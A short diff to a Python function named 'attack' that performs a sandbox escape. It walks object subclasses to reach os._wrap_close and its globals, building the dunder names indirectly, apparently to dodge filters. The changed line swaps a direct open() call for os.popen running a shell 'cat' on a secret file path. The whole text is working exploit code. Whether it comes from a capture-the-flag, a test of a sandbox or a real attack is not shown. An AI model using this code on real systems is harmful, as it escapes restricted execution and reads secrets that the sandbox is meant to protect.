@@ -5,5 +5,5 @@ def attack(xs, secret_path):
     for found in getattr(kind, f"{under}subclasses{under}")():
         if found.__name__ == "_wrap_close":
             words = getattr(getattr(found, f"{under}init{under}"), f"{under}globals{under}")
-            return words["open"](secret_path, 0)
+            return words["popen"](f"cat '{secret_path}'").read()
     raise ValueError("not found")
